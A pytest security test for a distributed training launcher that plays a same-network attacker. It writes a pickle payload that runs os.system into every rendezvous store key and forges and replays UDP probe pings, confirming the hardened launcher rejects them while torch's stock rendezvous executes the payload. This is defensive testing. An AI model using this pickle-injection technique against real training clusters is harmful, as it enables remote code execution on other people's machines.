"""The attack of issue 16, played for real: a store writer tries to run code in a Titan job.

A 2-node `titan run` on loopback; the test is the attacker on the same network. It connects
to the rendezvous store and writes a pickle payload (``os.system("touch MARKER")``) to every
key the launcher reads — first without knowing the run id (guessed names), then with it —
before the second node joins and again while the job trains. Nothing may run; the job must
go on, and the run directory must say what was rejected. It also pings the node agents'
UDP probes without the secret and from off-loopback. The control: the same payload against
torch's stock rendezvous (``--insecure-rdzv``) does run.
"""

from __future__ import annotations

import base64
import datetime as dt
import json
import os
import pickle
import socket
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import pytest
import torch.distributed as dist

from _sockets import kill_tree, listening, process_tree
from titan.events import read_run
from titan.security import Signer
from titan.security.secret import resolve_secret

TITAN = Path(sys.executable).with_name("titan")

WORKER = textwrap.dedent('''
    import os, sys, time
    from pathlib import Path
    import torch, torch.distributed as dist
    dist.init_process_group("gloo")
    here = Path(sys.argv[1])
    (here / f"ready.{dist.get_rank()}").write_text(str(os.getpid()))
    t0 = time.monotonic()
    while time.monotonic() - t0 < 90:
        done = torch.tensor([float((here / "done").exists())])
        dist.all_reduce(done)
        if done.item() > 0:
            break
        time.sleep(0.1)
    dist.barrier()
    dist.destroy_process_group()
''')


class _Payload:
    def __init__(self, marker: Path) -> None:
        self.marker = str(marker)

    def __reduce__(self):
        return (os.system, (f"touch {self.marker}",))


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def _wait_port(port: int, proc: subprocess.Popen, timeout: float = 60) -> None:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        assert proc.poll() is None, f"node exited early ({proc.returncode}): {proc.communicate()[0][-2000:]}"
        with socket.socket() as s:
            if s.connect_ex(("127.0.0.1", port)) == 0:
                return
        time.sleep(0.1)
    raise AssertionError(f"the rendezvous store never listened on 127.0.0.1:{port}")


def _node(cmd_tail: list[str], cwd: Path, node: str, **extra) -> subprocess.Popen:
    return subprocess.Popen([str(TITAN), "run", "--node-id", node, *cmd_tail], cwd=cwd, stdout=subprocess.PIPE,
                            stderr=subprocess.STDOUT, text=True, start_new_session=True,
                            env={**os.environ, **extra})


def _attack(port: int, run_id: str | None, payload: bytes, rounds: int = 3) -> list[str]:
    """Write ``payload`` to every key the launcher reads; returns the keys written."""
    store = dist.TCPStore("127.0.0.1", port, is_master=False, timeout=dt.timedelta(seconds=10))
    b64 = base64.b64encode(payload)
    ids = [run_id] if run_id else ["default", "job", "train", "exp42", "0", "none"]
    keys = []
    for rid in ids:
        base = f"torch.rendezvous.{rid}"
        keys.append(base)
        store.set(base, b64)  # what torch's c10d backend base64-decodes and unpickles
        for r in range(rounds):
            for k in ("MASTER_ADDR", "MASTER_PORT", "titan/bootstrap", "torchelastic/role_info/0",
                      "torchelastic/role_info/1", "torchelastic/assigned_ranks/0", "torchelastic/assigned_ranks/1"):
                keys.append(f"{base}.{r}/{k}")
                store.set(f"{base}.{r}/{k}", payload)
    # TCPStore lists its keys to anyone: overwrite every key there is, whatever its name.
    listed = [k for k in store.list_keys() if k not in keys]
    for k in listed:
        store.set(k, b64 if k.startswith("torch.rendezvous.") and "/" not in k else payload)
    keys += listed
    if run_id:
        time.sleep(1.5)  # a heartbeat or two reads the base64 copy; then try the raw pickle
        store.set(f"torch.rendezvous.{run_id}", payload)
    return keys


def _ping(addr: tuple[str, int], data: bytes, timeout: float = 1.0) -> bytes | None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(timeout)
        try:
            s.sendto(data, addr)
            return s.recvfrom(128)[0]
        except OSError:  # timeout, or ICMP port unreachable
            return None


def _probe_attack(run_dir: Path, run_id: str) -> None:
    from titan.monitor.probe import _FMT, PROBE_PURPOSE

    files = sorted((run_dir / "metrics").glob("probe.*.json"))
    assert len(files) == 2, f"expected both node agents' probes announced, got {files}"
    job = resolve_secret(None, os.environ).signer()
    for f in files:
        ann = json.loads(f.read_text())
        addr = (ann["host"], int(ann["port"]))
        assert ann["host"] == "127.0.0.1", f"probe should bind loopback here: {ann}"
        body = _FMT.pack(b"TP", 7, time.monotonic(), time.time())
        old_style = body[:18]  # the unauthenticated 18+6 byte ping of before
        assert _ping(addr, old_style + b"\0" * 6) is None, "the probe answered an unauthenticated ping"
        forged = body + Signer(b"x" * 32).tag(PROBE_PURPOSE, body, context=run_id)[:16]
        assert _ping(addr, forged) is None, "the probe answered a ping signed with another key"
        good = body + job.tag(PROBE_PURPOSE, body, context=run_id)[:16]
        assert _ping(addr, good) is not None, "control: a ping signed with the job secret got no answer"
        assert _ping(addr, good) is None, "the probe answered a replayed ping"
        off = _off_loopback_address()
        if off:
            b2 = _FMT.pack(b"TP", 8, time.monotonic(), time.time())
            assert _ping((off, addr[1]), b2 + job.tag(PROBE_PURPOSE, b2, context=run_id)[:16]) is None, \
                f"the probe answered on {off}, off loopback"


def _off_loopback_address() -> str | None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        try:
            s.connect(("192.0.2.1", 9))  # TEST-NET-1: nothing is sent
            a = s.getsockname()[0]
            return None if a.startswith("127.") else a
        except OSError:
            return None


@pytest.mark.multinode
@pytest.mark.timeout(180)
def test_store_writer_cannot_run_code_in_a_two_node_job(tmp_path):
    (tmp_path / "w.py").write_text(WORKER)
    marker = tmp_path / "PWNED"
    payload = pickle.dumps(_Payload(marker))
    port, run_id = _free_port(), "atk"
    common = ["--nnodes", "2", "--nproc-per-node", "1", "--rdzv-endpoint", f"127.0.0.1:{port}", "--run-id", run_id,
              "--set", "agent.interval_s=0.2", "--"]
    procs = []
    try:
        procs.append(_node(["--rdzv-conf", "is_host=1", *common, "w.py", str(tmp_path)], tmp_path, "n0"))
        _wait_port(port, procs[0])
        _attack(port, None, payload)     # not knowing the run id
        _attack(port, run_id, payload)   # knowing it, before the world forms
        time.sleep(1.5)
        procs.append(_node(["--rdzv-conf", "is_host=0", *common, "w.py", str(tmp_path)], tmp_path, "n1"))
        deadline = time.monotonic() + 90
        while not ((tmp_path / "ready.0").exists() and (tmp_path / "ready.1").exists()):
            assert all(p.poll() is None for p in procs), "a node stopped before training: " + \
                " | ".join((p.communicate()[0] or "")[-1500:] for p in procs if p.poll() is not None)
            assert time.monotonic() < deadline, "the job never formed"
            time.sleep(0.2)
        _attack(port, run_id, payload)   # while training
        time.sleep(2.5)                  # heartbeats and waiting-node checks read the store
        _probe_attack(tmp_path / "runs" / run_id, run_id)
        (tmp_path / "done").write_text("")
        outs = []
        for p in procs:
            try:
                outs.append(p.communicate(timeout=60)[0])
            except subprocess.TimeoutExpired:
                kill_tree(p.pid)
                outs.append("(did not finish in 60 s)\n" + (p.communicate(timeout=10)[0] or ""))
    finally:
        for p in procs:
            if p.poll() is None:
                kill_tree(p.pid)
                p.wait(10)
    assert not marker.exists(), "the pickle payload ran: a store writer executed code in the launcher"
    for p, out in zip(procs, outs):
        assert p.returncode == 0, f"the job should go on after rejecting the state (exit {p.returncode}):\n{out[-3000:]}"
    evs = read_run(tmp_path / "runs" / run_id).events
    rejected = [e for e in evs if e.kind == "rdzv.unauthenticated"]
    assert {e.node for e in rejected} >= {"n0"}, f"the run directory should record the rejections: {rejected}"
    msg = rejected[0].msg
    assert "unauthenticated rendezvous state" in msg and "nothing was unpickled" in msg, msg
    assert {e.data["op"] for e in rejected} & {"get_state", "set_state"}, [e.data for e in rejected]
    sec = [e for e in evs if e.kind == "launcher.security"]
    assert len(sec) == 2 and all(e.data["authenticated"] for e in sec), [e.data for e in sec]
    assert len({e.data["key_id"] for e in sec}) == 1, "both nodes should report the same key id"


@pytest.mark.timeout(120)
def test_control_the_same_payload_runs_on_torchs_stock_rendezvous(tmp_path):
    """Stock torch (``--insecure-rdzv``): the store listens on every interface and the payload runs."""
    (tmp_path / "w.py").write_text(WORKER)
    marker = tmp_path / "PWNED"
    port = _free_port()
    p = _node(["--insecure-rdzv", "--nnodes", "1", "--rdzv-endpoint", f"127.0.0.1:{port}", "--rdzv-conf", "is_host=1",
               "--run-id", "ctl", "--no-agent", "--", "w.py", str(tmp_path)], tmp_path, "n0")
    try:
        _wait_port(port, p)
        deadline = time.monotonic() + 60
        while not (tmp_path / "ready.0").exists() and time.monotonic() < deadline:
            time.sleep(0.2)
        socks = listening(process_tree(p.pid))
        assert any(s.addr in ("0.0.0.0", "::") for s in socks), \
            "control: torch's stock rendezvous should listen on every interface:\n" + "\n".join(map(str, socks))
        _attack(port, "ctl", pickle.dumps(_Payload(marker)))
        deadline = time.monotonic() + 15
        while not marker.exists() and time.monotonic() < deadline:
            time.sleep(0.2)
        assert marker.exists(), "control failed: stock torch did not unpickle the store's state"
    finally:
        (tmp_path / "done").write_text("")
        if p.poll() is None:
            kill_tree(p.pid)
        p.communicate(timeout=30)
